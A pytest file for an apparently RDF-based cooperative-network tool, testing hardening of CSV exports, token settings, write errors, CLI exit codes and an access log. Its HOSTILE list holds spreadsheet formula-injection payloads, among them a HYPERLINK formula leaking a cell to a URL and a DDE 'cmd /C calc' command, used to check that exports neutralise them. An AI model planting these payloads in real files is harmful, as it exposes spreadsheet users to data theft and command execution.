"""Issue 16, "Hardening", in-process: CSV outputs safe in spreadsheets, token settings,
write errors that say what happened to the data, the write queue, CLI errors with the
README's exit codes, protocol corners, the access log. Live-server cases (slow clients,
the memory budget, timeouts during writes) are in tests/test_hardening_live.py."""

from __future__ import annotations

import csv
import io
import json
import socket
import threading
import zipfile
from pathlib import Path

import networkx as nx
import pyoxigraph as ox
import pytest
from click.testing import CliRunner
from waitress import wasyncore

from coopgraph import entries, exports, results
from coopgraph.cli import main
from coopgraph.csvsafe import FORMULA_START, is_formula
from coopgraph.errors import Busy, ParseError, StartupError, StoreError
from coopgraph.formats import result_format
from coopgraph.parse import parse_bytes
from coopgraph.settings import load_settings, parse_tokens
from coopgraph.store import open_store
from coopgraph.store.base import Changes
from coopgraph.tabular import KINDS, import_sheet, read_sheet, template
from coopgraph.web.accesslog import AccessLog
from coopgraph.web.serve import make_server
from coopgraph.web.writequeue import WriteQueue

DATA = Path(__file__).parent / "data"
AUTH = {"Authorization": "Bearer alice-secret-token"}

#: Cells a spreadsheet would run, and cells it would not.
HOSTILE = [
    '=HYPERLINK("http://127.0.0.1:9/leak?d="&A1,"clic")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "=1+1",
]


def unsafe_cells(text: str, delimiter: str = ",") -> list[str]:
    """Cells a spreadsheet would evaluate: starting with = + - @ (or tab/CR) and neither
    marked as text by a leading quote nor a plain number."""
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row if is_formula(cell)]


def unsafe_tsv_cells(text: str) -> list[str]:
    """TSV cells a spreadsheet would evaluate once it drops the quotes around a cell."""
    cells = [cell for line in text.splitlines() for cell in line.split("\t")]
    unquoted = [c[1:c.index('"', 1)] if c.startswith('"') and '"' in c[1:] else c for c in cells]
    return [c for c in unquoted if is_formula(c)]


# -- CSV outputs --------------------------------------------------------------------------


def test_every_hostile_value_counts_as_unsafe_and_numbers_do_not() -> None:
    assert all(is_formula(v) for v in HOSTILE)
    assert not any(is_formula(v) for v in ("-1.55", "+33", "Lille", "'=1+1", ""))


def test_network_csv_exports_mark_formulas_as_text() -> None:
    graph = nx.MultiGraph()
    for i, value in enumerate(HOSTILE):
        graph.add_node(f"=node{i}", label=value, label_fr=value, kind="organisation",
                       lat=50.6, long=-1.55)
    graph.add_edge("=node0", "=node1", key="=edge", type="partnership", source="=node0",
                   target="=node1", sources=["@graph"], via_label=HOSTILE[0])
    data = exports.to_csv_zip(graph)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in ("nodes.csv", "edges.csv"):
            text = zf.read(name).decode("utf-8")
            assert unsafe_cells(text) == []
            cells = {c for row in csv.reader(io.StringIO(text)) for c in row}
            assert "'" + HOSTILE[0] in cells  # kept, as text
    assert "-1.55" in exports.nodes_csv(graph).split("\n")[1]  # numbers stay numbers


def test_cli_export_csv_marks_formulas(tmp_path: Path) -> None:
    out = tmp_path / "net"
    result = CliRunner().invoke(main, ["export", "--format", "csv", "--store", ":memory:",
                                       "--out", str(out)])
    assert result.exit_code == 0, result.output
    for name in ("nodes.csv", "edges.csv"):
        assert unsafe_cells((out / name).read_text("utf-8")) == []


def test_sparql_csv_results_mark_formulas_and_tsv_quotes_them(client) -> None:  # type: ignore[no-untyped-def]
    values = " ".join(json.dumps(v) for v in HOSTILE) + " -5 -1.5"
    query = f"SELECT ?x WHERE {{ VALUES ?x {{ {values} }} }}"
    csv_text = client.get("/sparql", query_string={"query": query, "format": "csv"}).text
    assert unsafe_cells(csv_text) == []
    lines = csv_text.splitlines()
    assert "-5" in lines and "-1.5" in lines  # numbers stay numbers
    tsv = client.get("/sparql", query_string={"query": query, "format": "tsv"})
    assert unsafe_tsv_cells(tsv.text) == []
    parsed = ox.parse_query_results(tsv.data, ox.QueryResultsFormat.TSV)
    assert {s["x"].value for s in parsed} == {*HOSTILE, "-5", "-1.5"}  # exact values
    solutions = results.serialize(
        results.Solutions(["x"], [(ox.Literal(v),) for v in HOSTILE]),  # type: ignore[attr-defined]
        result_format("csv"),
    ).decode()
    assert unsafe_cells(solutions) == []


def _organisation_sheet(name: str) -> bytes:
    header, explanation, _ = list(csv.reader(io.StringIO(
        template("organisation", "en").decode("utf-8-sig"), newline="")))
    key_of = {c.header["en"]: c.key for c in KINDS["organisation"]}
    row = [{"name_fr": name, "name_en": "x"}.get(key_of.get(h, ""), "") for h in header]
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows([header, explanation, row])
    return out.getvalue().encode("utf-8")


@pytest.mark.parametrize("value", HOSTILE)
def test_import_refuses_formula_cells_and_annotates_safely(project_store, value: str) -> None:  # type: ignore[no-untyped-def]
    sheet = read_sheet(_organisation_sheet(value), source="t.csv")
    report = import_sheet(project_store, sheet, lang="en")
    assert not report.conforms
    messages = [i.message("en") for i in report.issues()]
    assert any("formula" in m for m in messages), messages
    annotated = report.annotated("en").decode("utf-8-sig")
    assert unsafe_cells(annotated) == []
    assert unsafe_cells(template("organisation", "fr").decode("utf-8-sig")) == []


# -- tokens ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("justasecret123", "#1"),
        ("alice:alice-secret-1,justasecret123", "#2"),
        ("alice:same-secret-1,bob:same-secret-1", "share one secret"),
        ("ev il>:a-good-secret", "unusable"),
        ("alice:short", "8+"),
        ("alice:has space in it", "8+"),
        ("alice:a-secret-1,alice:a-secret-2", "given twice"),
    ],
)
def test_bad_token_settings_are_refused_without_echoing_secrets(text: str, said: str) -> None:
    with pytest.raises(StartupError) as caught:
        parse_tokens(text)
    assert said in caught.value.message
    for secret in ("justasecret123", "same-secret-1", "a-good-secret", "short", "a-secret-1",
                   "has space in it"):
        assert secret not in caught.value.message


def test_tokens_from_a_config_table_are_checked(tmp_path: Path) -> None:
    config = tmp_path / "c.toml"
    config.write_text('[coopgraph]\ntokens = { "a b" = "long-enough-secret" }\n', "utf-8")
    with pytest.raises(StartupError, match="unusable"):
        load_settings(config)


# -- writes say what happened to the data -----------------------------------------------------


def test_refused_http_writes_say_nothing_was_written(client) -> None:  # type: ignore[no-untyped-def]
    bad = client.post("/entries", data=b"<a> <b> .", headers={**AUTH,
                                                              "Content-Type": "text/turtle"})
    assert bad.status_code == 400
    assert bad.json["store_changed"] is False and "Nothing was written" in bad.json["detail"]
    anonymous = client.post("/entries", data=b"", headers={"Content-Type": "text/turtle"})
    assert anonymous.status_code == 401 and anonymous.json["store_changed"] is False
    read = client.get("/data?graph=https://w3id.org/coopgraph/graph/entry/none")
    assert read.status_code == 404 and "store_changed" not in read.json


class _FailingApply:
    """A store whose ``apply`` fails, after applying (``applied``) or before."""

    def __init__(self, store, applied: bool) -> None:  # type: ignore[no-untyped-def]
        self.store, self.applied = store, applied

    def apply(self, changes: Changes) -> None:
        if self.applied:
            self.store.apply(changes)
        raise StoreError("the store process crashed while answering")

    def __getattr__(self, name: str):  # type: ignore[no-untyped-def]
        return getattr(self.store, name)


@pytest.mark.parametrize("applied", [False, True])
def test_a_failed_transaction_says_whether_it_was_applied(fresh_store, applied: bool) -> None:  # type: ignore[no-untyped-def]
    from coopgraph.validate import Validator

    store = _FailingApply(fresh_store, applied)
    data = (DATA / "valid" / "new-offer.ttl").read_bytes()
    with pytest.raises(StoreError) as caught:
        entries.add_entry(store, data, "ttl", graph="t-fail", agent="alice", source="t",  # type: ignore[arg-type]
                          validator=Validator(fresh_store))
    assert caught.value.store_changed is applied  # type: ignore[attr-defined]
    written = ox.NamedNode(entries.entry_graph("t-fail"))
    assert bool(list(fresh_store.quads(written.value))) is applied


def test_writes_take_turns_in_order_and_give_up_with_busy() -> None:
    queue = WriteQueue()
    order: list[int] = []
    with queue.turn(5):
        threads = []
        for i in range(3):
            t = threading.Thread(target=lambda i=i: _take(queue, order, i))
            t.start()
            while queue.waiting < i + 1:  # enter the line in order 0, 1, 2
                threading.Event().wait(0.01)
            threads.append(t)
        with pytest.raises(Busy) as caught:
            with queue.turn(0.05):
                pass
        assert "nothing was written" in caught.value.message
        assert caught.value.details["store_changed"] is False
    for t in threads:
        t.join(10)
    assert order == [0, 1, 2]


def _take(queue: WriteQueue, order: list[int], i: int) -> None:
    with queue.turn(30):
        order.append(i)


# -- CLI errors -------------------------------------------------------------------------------


def _run(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.output + (result.stderr if result.stderr_bytes else "")


def test_query_of_a_missing_file_is_exit_2_without_traceback() -> None:
    code, out = _run("query", "nope.rq", "--store", ":memory:")
    assert code == 2 and "nope.rq" in out and "Traceback" not in out


def test_validate_on_an_empty_folder_is_an_error(tmp_path: Path) -> None:
    code, out = _run("validate", str(tmp_path), "--store", ":memory:")
    assert code == 2 and "no RDF file" in out


def test_writing_to_a_store_a_server_holds_is_exit_4(tmp_path: Path) -> None:
    held = open_store(str(tmp_path / "store"))
    try:
        code, out = _run("add", str(DATA / "valid" / "new-offer.ttl"), "--store",
                         str(tmp_path / "store"))
    finally:
        held.close()
    assert code == 4 and "nothing was written" in out and "Traceback" not in out


def test_bom_prefixed_turtle_is_read() -> None:
    data = (DATA / "valid" / "new-offer.ttl").read_bytes()
    def named(quads: list[ox.Quad]) -> list[str]:
        return sorted(str(q) for q in quads if not isinstance(q.subject, ox.BlankNode)
                      and not isinstance(q.object, ox.BlankNode))

    with_bom = parse_bytes(b"\xef\xbb\xbf" + data, "ttl")
    assert len(with_bom) == len(parse_bytes(data, "ttl"))
    assert named(with_bom) == named(parse_bytes(data, "ttl"))


def test_latin1_input_is_reported_as_file_line_column() -> None:
    data = '@prefix ex: <http://e/> .\nex:a ex:b "Comit\u00e9" .\n'.encode("latin-1")
    with pytest.raises(ParseError) as caught:
        parse_bytes(data, "ttl", source="x.ttl")
    assert (caught.value.line, caught.value.column) == (2, 17)
    assert caught.value.message.startswith("x.ttl:2:17:")
    sheet = "Nom,Ville\nComit\u00e9,Lille\n".encode("latin-1")
    with pytest.raises(ParseError) as caught:
        read_sheet(sheet, source="s.csv")
    assert (caught.value.line, caught.value.column) == (2, 6)


# -- protocol corners -----------------------------------------------------------------------


def test_invalid_utf8_percent_escapes_in_a_get_are_refused(client) -> None:  # type: ignore[no-untyped-def]
    response = client.get("/sparql?query=ASK%20%7B%7D%FF")
    assert response.status_code == 400 and "UTF-8" in response.json["detail"]
    assert client.get("/sparql?query=ASK%20%7B%7D").status_code == 200


@pytest.mark.parametrize("path", ["/network?asOf=99999-99-99", "/map?asOf=2024-13-45",
                                  "/map?between=2020/nope"])
def test_pages_with_a_bad_date_are_400_pages(client, path: str) -> None:  # type: ignore[no-untyped-def]
    response = client.get(path, headers={"Accept": "text/html"})
    assert response.status_code == 400 and response.mimetype == "text/html"


def test_gsp_get_of_the_default_graph_is_capped(client, web_settings) -> None:  # type: ignore[no-untyped-def]
    response = client.get("/data?default", headers={"Accept": "application/n-triples"})
    assert response.status_code == 200
    assert response.headers["X-Coopgraph-Truncated"] == "true"
    triples = list(ox.parse(response.data, ox.RdfFormat.N_TRIPLES))
    assert len(triples) == web_settings.result_limit == len(set(triples))


# -- connections ----------------------------------------------------------------------------


def test_one_turn_of_the_server_loop_accepts_every_waiting_connection(  # type: ignore[no-untyped-def]
    web_settings, project_store
) -> None:
    """waitress accepts one connection per turn of its loop, each turn polling every open
    one: after a burst of 1,000 slow clients a probe waited a second to be accepted."""
    server, _ = make_server(web_settings.replace(host="127.0.0.1", port=0, access_log=""),
                            project_store)
    waiting = []
    try:
        for _ in range(20):
            waiting.append(socket.create_connection(("127.0.0.1", server.effective_port), 10))
        before = len(server._map)
        server.handle_read_event()  # what the loop does when the listening socket is readable
        assert len(server._map) == before + 20
    finally:
        for s in waiting:
            s.close()
        server.task_dispatcher.shutdown()
        wasyncore.close_all(server._map)


# -- access log -------------------------------------------------------------------------------


def test_access_log_records_refused_writes_without_secrets_or_queries(app) -> None:  # type: ignore[no-untyped-def]
    stream = io.StringIO()
    app.wsgi_app = AccessLog(app.wsgi_app, stream)
    client = app.test_client()
    client.post("/entries", data=b"x", headers={"Authorization": "Bearer wrong-secret-42",
                                                "Content-Type": "text/turtle"}, buffered=True)
    client.get("/sparql", query_string={"query": "ASK { <urn:secret-query-text> ?p ?o }"},
               buffered=True)
    lines = stream.getvalue().splitlines()
    assert len(lines) == 2
    assert '"POST /entries HTTP/1.1" 401 ' in lines[0]
    assert "wrong-secret-42" not in stream.getvalue()
    assert "secret-query-text" not in stream.getvalue() and "query=[" in lines[1]
    assert all(not line.startswith(FORMULA_START) for line in lines)
